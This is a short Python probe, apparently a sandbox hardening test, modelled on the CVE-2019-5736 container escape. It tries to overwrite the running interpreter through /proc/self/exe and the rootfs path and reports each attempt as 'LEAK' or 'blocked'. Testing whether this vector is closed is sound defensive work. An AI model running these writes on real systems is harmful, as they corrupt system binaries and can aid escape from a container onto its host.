# CVE-2019-5736 style: overwrite the interpreter through /proc/self/exe,
# then through the rootfs path itself.
import errno, os
for p, flags in (("/proc/self/exe", os.O_WRONLY), ("/proc/self/exe", os.O_RDWR),
                 ("/usr/bin/python3.11", os.O_WRONLY)):
    try:
        fd = os.open(p, flags)
        os.write(fd, b"\x7fPWNED")
        print("LEAK wrote", p)
    except OSError as e:
        print(os.path.basename(p), flags, "blocked", errno.errorcode[e.errno])
